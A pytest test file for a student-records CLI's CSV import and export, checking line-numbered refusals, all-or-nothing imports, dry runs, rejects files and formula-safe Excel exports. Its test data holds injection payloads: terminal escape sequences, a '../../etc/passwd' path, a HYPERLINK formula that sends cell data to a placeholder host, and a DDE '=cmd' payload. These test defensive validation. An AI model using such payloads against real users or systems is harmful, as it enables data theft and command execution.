"""Rows that cannot be applied: told by line, kept as they stood, and all or nothing."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event, text

from studentcli.requests import CourseWord
from studentcli.services.batches import BatchResult
from studentcli.services.near import find_near
from tests.conftest import Offer, Run
from tests.desk import (
    codes,
    fill_for_files,
    filled_once,
    read_csv,
    rows,
)
from tests.world import World

NewDatabase = Callable[..., str]


@pytest.fixture
def desk(new_database: NewDatabase) -> World:
    """Give a filled catalogue on SQLite."""
    return filled_once(fill_for_files, new_database)


# ── rows that cannot be read ─────────────────────────────────────────────────────────────

HEADER = "action,student,course,term,section,effective_on,grade,override,reason"
BAD_ROWS = [
    ("enroll,S1,CS101", "bad-value"),
    ("enroll,S1,CS101,,,,,,,", "bad-value"),
    ("enroll,S1,CS101,,,,,,King, Ada", "bad-value"),
    (",S1,CS101,,,,,,", "bad-value"),
    ("enrol,S1,CS101,,,,,,", "bad-value"),
    ("ENROLL,S1,CS101,,,,,,", "bad-value"),
    ("enroll,,CS101,,,,,,", "malformed-id"),
    ("enroll,S1,,,,,,,", "malformed-id"),
    ("enroll,1.23E+05,CS101,,,,,,", "malformed-id"),
    ("enroll,1.23457e+11,CS101,,,,,,", "malformed-id"),
    ('enroll,"1,23E+05",CS101,,,,,,', "malformed-id"),
    ("enroll,1E+005,CS101,,,,,,", "malformed-id"),
    (f"enroll,{'x' * 65},CS101,,,,,,", "malformed-id"),
    ("enroll,S\x1b[2J1,CS101,,,,,,", "malformed-id"),
    ("enroll,S1,C\u009bS101,,,,,,", "malformed-id"),
    ("enroll,S1,CS101,,,2026-02-30,,,", "bad-value"),
    ("enroll,S1,CS101,,,01.09.2026,,,", "bad-value"),
    ("enroll,S1,CS101,,,\u0662\u0660\u0662\u0666-\u0660\u0669-\u0660\u0661,,,", "bad-value"),
    ("enroll,S1,CS101,,,2999-01-01,,,", "bad-value"),
    ("enroll,S1,CS101,,,,A,,", "bad-value"),
    ("complete,S1,CS101,,,,<script>,,", "unknown-grade"),
    ("enroll,S1,CS101,,,,,course-full,", "bad-value"),
    ("enroll,S1,CS101,,,,,nonsense,because", "bad-value"),
    ("enroll,S1,CS101,,,,,,\x1b]0;owned\x07", "bad-value"),
    ("enroll,S9,CS101,,,,,,", "unknown-student"),
    ("enroll,s1,CS101,,,,,,", "unknown-student"),
    ("enroll,S1,CS999,,,,,,", "unknown-course"),
    ("enroll,S1,CS101,2026XX,,,,,", "unknown-term"),
    ("enroll,S1,CS101,,7,,,,", "unknown-course"),
    ("drop,S1,CS101,,,,,,", "not-enrolled"),
]


def bad_file() -> tuple[str, dict[int, str]]:
    """Give a file in which a good row follows every bad one, and the codes by line."""
    lines, expected = [HEADER], {}
    for row, code in BAD_ROWS:
        lines += [row, "enroll,S2,MATH200,,,,,,"]
        expected[len(lines) - 1] = code
    return "\n".join(lines) + "\n", expected


def test_every_bad_row_is_told_by_its_line_and_the_good_ones_are_applied_when_asked(
    desk: World,
) -> None:
    content, expected = bad_file()
    result, items = desk.import_csv(content, on_error="skip")
    assert codes(items) == expected
    assert dict(result.totals) == {
        "refused": len(BAD_ROWS), "enrolled": 1, "unchanged": len(BAD_ROWS) - 1,
    }  # fmt: skip
    assert desk.statuses() == {("S2", "ALL/MATH200-1"): "enrolled"}


def test_a_number_that_a_spreadsheet_shortened_is_refused_with_the_reason(desk: World) -> None:
    _, items = desk.import_csv("student,family_name\n1.23E+05,King\nE+05,Ada\n1E05,Lin\n")
    refusal = items[0].refusal
    assert (refusal.code, len(items)) == ("malformed-id", 3)
    assert "1.23E+05 is a number that a spreadsheet has shortened" in refusal.message
    assert [item.refusal for item in items[1:]] == [None, None]


@pytest.mark.parametrize("chunk", [1, 2, 7])
def test_the_outcome_does_not_depend_on_where_a_chunk_ends(desk: World, chunk: int) -> None:
    content, expected = bad_file()
    _, items = desk.import_csv(content, on_error="skip", chunk=chunk)
    assert codes(items) == expected
    assert desk.statuses() == {("S2", "ALL/MATH200-1"): "enrolled"}


@pytest.mark.parametrize(
    ("header", "row", "code"),
    [
        ("student,family_name", "S1,King,Ada", "bad-value"),
        ("student,family_name", "S1", "bad-value"),
        ("student,family_name", "S1,\x1b[31mKing", "bad-value"),
        ("student,family_name", "S1,\u009b31mKing", "bad-value"),
        ("student,family_name", ",King", "malformed-id"),
        ("student,email", "S1,nobody", "bad-value"),
        ("student,status", "S1,ACTIVE", "bad-value"),
        ("student,max_credits", "S1,1_0", "bad-value"),
        ("student,max_credits", "S1,\u0663", "bad-value"),
        ("term,course,capacity", "ALL,CS101,9223372036854775808", "bad-value"),
        ("term,course,capacity", "ALL,CS101,-1", "bad-value"),
        ("term,course,capacity", "ALL,CS101,3.0", "bad-value"),
        ("term,course,capacity", "ALL,,3", "malformed-id"),
        ("term,course,credits", "ALL,CS101,'3", "bad-value"),
        ("term,course,status", "2026XX,CS101,open", "unknown-term"),
        ("term,starts_on", "T9,2026-02-30", "bad-value"),
        ("term,starts_on,ends_on", "T9,2026-09-02,2026-09-01", "bad-value"),
        ("term,time_zone", "T9,../../etc/passwd", "bad-value"),
    ],
)
def test_a_record_that_cannot_be_read_changes_nothing(
    desk: World, header: str, row: str, code: str
) -> None:
    before = rows(desk)
    result, items = desk.import_csv(f"{header}\n{row}\n", on_error="abort")
    assert (result.aborted, codes(items)) == (True, {2: code})
    for table in ("students", "courses", "student_courses", "catalog_events"):
        assert rows(desk)[table] == before[table]


# ── all or nothing, forecasts, repetition ────────────────────────────────────────────────


def operations(world: World) -> list[tuple[Any, ...]]:
    """Give kind, outcome and totals of the operations with a file."""
    query = "SELECT kind, outcome, totals FROM operations WHERE source IS NOT NULL ORDER BY id"
    with world.database.connect(writes=False) as connection:
        return [
            (kind, outcome, json.loads(totals) if isinstance(totals, str) else totals)
            for kind, outcome, totals in connection.execute(text(query))
        ]


def test_an_aborted_file_applies_nothing_and_leaves_one_operation_without_events(
    world: World,
) -> None:
    fill_for_files(world)
    before = rows(world)
    result, _ = world.import_csv("student,course\nS1,CS101\nNOBODY,CS101\nS2,MATH200\n")
    assert result.aborted
    assert operations(world) == [("import-enrollments", "aborted", {"enrolled": 2, "refused": 1})]
    after = rows(world)
    assert len(after.pop("operations")) == len(before.pop("operations")) + 1
    assert after == before


@pytest.mark.parametrize("on_error", ["abort", "skip"])
def test_a_forecast_writes_nothing_and_says_what_the_file_would_do(
    world: World, on_error: str
) -> None:
    fill_for_files(world)
    content = "student,course\nS1,CS101\nNOBODY,CS101\nS2,MATH200\nS2,MATH200\n"
    before = rows(world)
    forecast, _ = world.import_csv(content, dry_run=True, on_error=on_error)
    assert rows(world) == before
    assert forecast.operation_id is None
    real, _ = world.import_csv(content, on_error=on_error)
    assert (forecast.totals, forecast.aborted) == (real.totals, real.aborted)


def test_the_same_file_again_changes_nothing_and_is_recognised(world: World) -> None:
    fill_for_files(world)
    content = "student,course\nS1,CS101\nS2,CS101\n"
    first, _ = world.import_csv(content)
    enrollments, events = world.enrollments(), world.count("enrollment_events")
    again, _ = world.import_csv(content)
    assert (dict(again.totals), again.same_as) == ({"unchanged": 2}, first.operation_id)
    assert (world.enrollments(), world.count("enrollment_events")) == (enrollments, events)


def test_a_file_that_was_aborted_is_not_the_same_file_the_next_time(desk: World) -> None:
    content = "student,course\nS9,CS101\n"
    assert desk.import_csv(content)[0].aborted
    desk.student("S9")
    again: BatchResult = desk.import_csv(content)[0]
    assert (dict(again.totals), again.same_as) == ({"enrolled": 1}, None)


# ── what the command says ────────────────────────────────────────────────────────────────


def test_the_summary_names_the_database_and_the_batch_that_had_the_same_file(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\n")
    first = run("import", "in.csv", database=desk.url)
    again = run("import", "in.csv", database=desk.url)
    batch = first.stderr.strip().rpartition("batch ")[2]
    assert (first.returncode, again.returncode) == (0, 0)
    assert f"1 enrolled of 1 rows into {desk.url}" in first.stderr
    assert f"1 unchanged of 1 rows into {desk.url}" in again.stderr
    assert again.stderr.strip().endswith(f"same file as batch {batch}")


def test_an_aborted_import_tells_every_line_and_that_nothing_was_applied_also_when_quiet(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\nS9,CS101\nS2\n")
    done = run("-q", "import", "in.csv", database=desk.url)
    assert (done.returncode, done.stdout) == (6, "")
    assert "line 3: there is no student S9 [unknown-student]" in done.stderr
    assert "line 4: 1 cells, the header has 2 [bad-value]" in done.stderr
    assert (
        "error: nothing was applied: 2 rows of in.csv were refused [batch-refused]" in done.stderr
    )
    assert "Traceback" not in done.stderr
    assert desk.statuses() == {}


def test_a_forecast_says_would_and_changes_nothing(desk: World, offer: Offer) -> None:
    before = rows(desk)
    code, stderr = offer(b"student,course\nS1,CS101\n", "--dry-run")
    assert code == 0
    assert "forecast, nothing was changed: would be 1 enrolled of 1 rows" in stderr
    assert rows(desk) == before


def test_a_long_list_of_refused_rows_is_told_in_short_and_kept_in_full(
    desk: World, run: Run, tmp_path: Path
) -> None:
    lines = "".join(f"N{number},CS101\n" for number in range(70))
    (tmp_path / "in.csv").write_text(f"student,course\n{lines}")
    done = run("import", "in.csv", "--rejects", "r.csv", database=desk.url)
    assert done.returncode == 6
    assert done.stderr.count("\nline ") + done.stderr.startswith("line ") == 50
    assert "and 20 more refused rows; in all 70 unknown-student" in done.stderr
    assert len(read_csv((tmp_path / "r.csv").read_text())) == 70


def test_outcomes_for_programs_are_complete_and_so_is_the_error(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text("student,course\nS1,CS101\nS9,CS101\nS2\n")
    done = run("import", "in.csv", "--format", "json", database=desk.url)
    assert done.returncode == 6
    told = [(row["line"], row["result"], row["code"]) for row in json.loads(done.stdout)]
    assert told == [(2, "not-applied", None), (3, "refused", "unknown-student"),
                    (4, "refused", "bad-value")]  # fmt: skip
    errors_told = [json.loads(line) for line in done.stderr.splitlines() if line.startswith("{")]
    assert [error["error"]["code"] for error in errors_told] == ["batch-refused"]
    assert desk.statuses() == {}


# ── rejects ──────────────────────────────────────────────────────────────────────────────


def test_rejects_hold_the_refused_rows_as_they_stood_and_are_applied_once_mended(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "in.csv").write_text(
        'course,student,_note,request\nCS101,S1,,a\nCS101,S9,"two\nlines, ""quoted""",b\n'
        "MATH200,S9,,b\nCS101,S2,,c\n"
    )
    done = run("import", "in.csv", "--on-error", "skip", "--rejects", "r.csv", database=desk.url)
    assert done.returncode == 6
    assert (tmp_path / "r.csv").read_text().splitlines()[0] == (
        "course,student,_note,request,_line,_code,_reason,_request"
    )
    told = [(row["course"], row["_note"], row["_line"], row["_code"], row["_request"])
            for row in read_csv((tmp_path / "r.csv").read_text())]  # fmt: skip
    assert told == [
        ("CS101", 'two\nlines, "quoted"', "3", "unknown-student", "3"),
        ("MATH200", "", "5", "unknown-student", "3"),
    ]
    desk.student("S9")
    result, _ = desk.import_file(tmp_path / "r.csv")
    assert dict(result.totals) == {"enrolled": 2}


@pytest.mark.parametrize(
    ("header", "row"),
    [
        ("student,family_name,given_name", "S1,King, Jr.,Ada"),
        ("student,family_name,given_name", "S1,Ada"),
        ("student,course,_note", "S1,CS101"),
        ("student,course,_note", "S1,CS101,,"),
        ("student,course,_line,_code,_reason,_request", "S1,CS101"),
    ],
)
def test_a_ragged_row_that_is_fed_back_unmended_is_refused_again(
    desk: World, offer: Offer, tmp_path: Path, header: str, row: str
) -> None:
    rejects = ("--on-error", "skip", "--rejects", "r.csv")
    assert offer(f"{header}\n{row}\n".encode(), *rejects)[0] == 6
    before = rows(desk)
    code, stderr = offer((tmp_path / "r.csv").read_bytes())
    assert code == 6
    assert "line 2: " in stderr
    assert rows(desk)["students"] == before["students"]
    assert rows(desk)["student_courses"] == before["student_courses"]


def test_rejects_of_rejects_have_the_added_columns_once(
    desk: World, run: Run, tmp_path: Path
) -> None:
    (tmp_path / "r1.csv").write_text(
        "student,course,_line,_code,_reason,_request\nS9,CS101,7,unknown-student,because,7\n"
    )
    done = run("import", "r1.csv", "--on-error", "skip", "--rejects", "r2.csv", database=desk.url)
    assert done.returncode == 6
    assert (tmp_path / "r2.csv").read_text() == (
        "student,course,_line,_code,_reason,_request\n"
        "S9,CS101,2,unknown-student,there is no student S9,2\n"
    )


# ── spreadsheets ─────────────────────────────────────────────────────────────────────────

FORMULAS = ('=HYPERLINK("http://x/?"&A1,"me")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")


def test_formulas_are_stored_as_they_are_and_come_out_so(
    desk: World, run: Run, tmp_path: Path
) -> None:
    written = io.StringIO()
    cells = ([f"F{number}", cell] for number, cell in enumerate(FORMULAS))
    csv.writer(written).writerows([["student", "family_name"], *cells])
    result, _ = desk.import_csv(written.getvalue())
    assert dict(result.totals) == {"created": len(FORMULAS)}
    done = run("export", "students", database=desk.url)
    assert done.returncode == 0
    names = {row["student"]: row["family_name"] for row in read_csv(done.stdout)}
    assert tuple(names[f"F{n}"] for n in range(len(FORMULAS))) == FORMULAS
    (tmp_path / "again.csv").write_text(done.stdout)
    again, _ = desk.import_file(tmp_path / "again.csv")
    assert dict(again.totals) == {"unchanged": len(FORMULAS) + 3}


def test_an_excel_export_holds_no_cell_that_a_spreadsheet_would_run(desk: World, run: Run) -> None:
    for number, cell in enumerate(FORMULAS):
        desk.student(f"F{number}", family_name=cell)
    desk.student("-17", "00731", family_name="O'Neil-King")
    done = run("export", "students", "--excel", database=desk.url)
    assert done.returncode == 0
    assert "Traceback" not in done.stderr
    lines = list(csv.reader(io.StringIO(done.stdout)))
    assert not [cell for line in lines for cell in line if cell.startswith(tuple("=+-@\t\r"))]
    found = {line[0]: line[2] for line in lines}
    assert [found[f"F{n}"] for n in range(len(FORMULAS))] == [f"'{cell}" for cell in FORMULAS]
    assert found["00731"] == found["'-17"] == "O'Neil-King"


# ── what is not found ────────────────────────────────────────────────────────────────────


def test_what_differs_in_zeros_case_or_spaces_is_told_and_never_taken(
    world: World, command: Run, tmp_path: Path
) -> None:
    world.student("01103", "S0012", "s12", "AB 7", "10", "Å1")
    world.term("2027SP")
    world.course("CS101", "MA007", term="ALL")
    world.course("CS101", term="2027SP", section="002")
    asked = {
        "1103,CS101": "there is no student 1103; 01103 exists",
        "001103,CS101": "there is no student 001103; 01103 exists",
        "S12,CS101": "there is no student S12; s12 and S0012 exist",
        "ab7,CS101": "there is no student ab7; AB 7 exists",
        "1,CS101": "there is no student 1",
        "S9,CS101": "there is no student S9",
        "10,ma7": "there is no course ma7 in term ALL; ALL/MA007-1 exists",
        "10,CS101-2": "there is no course CS101-2 in term ALL; 2027SP/CS101-002 exists",
        "10,PHYS1": "there is no course PHYS1 in term ALL",
    }
    (tmp_path / "in.csv").write_text("student,course\n" + "".join(f"{row}\n" for row in asked))
    before = rows(world, "student_courses")
    done = command("import", "in.csv", "--term", "ALL", "--on-error", "skip", database=world)
    assert done.returncode == 6
    assert done.stderr.splitlines()[: len(asked)] == [
        f"line {line}: {told} [unknown-{'student' if 'student' in told else 'course'}]"
        for line, told in enumerate(asked.values(), 2)
    ]
    assert rows(world, "student_courses") == before


def test_the_help_for_what_is_not_found_is_two_queries_for_the_whole_file(world: World) -> None:
    world.student("01103")
    world.course("CS101")
    words: list[str | CourseWord] = [str(number) for number in range(1100, 1150)]
    words += [CourseWord("cs101"), CourseWord("X")]
    queries: list[str] = []
    with world.database.session(writes=False) as session:
        event.listen(
            session.connection(), "before_cursor_execute",
            lambda _c, _cursor, statement, *_: queries.append(statement),
        )  # fmt: skip
        near = find_near(session, words)
    assert near == {"1103": ["01103"], CourseWord("cs101"): ["ALL/CS101-1"]}
    assert len(queries) == 2


def test_rejects_hold_the_cells_of_plain_rows_amid_others(
    desk: World, run: Run, tmp_path: Path
) -> None:
    """When nobody wants the cells, nothing but numbers is kept of such rows."""
    file = [f"{number},CS101,note of {number}" for number in ("S1", "N8", "S2", "N9", "S3")]
    (tmp_path / "plain.csv").write_text("student,course,_note\n" + "\n".join(file) + "\n")
    arguments = ("import", "plain.csv", "--on-error", "skip")

    without = run(*arguments, "-n", database=desk.url)
    done = run(*arguments, "--rejects", "rejects.csv", database=desk.url)

    assert (without.returncode, done.returncode) == (6, 6)
    assert without.stderr.splitlines()[:2] == done.stderr.splitlines()[:2]
    kept = [line.split(",")[:4] for line in (tmp_path / "rejects.csv").read_text().splitlines()]
    assert kept[1:] == [["N8", "CS101", "note of N8", "3"], ["N9", "CS101", "note of N9", "5"]]
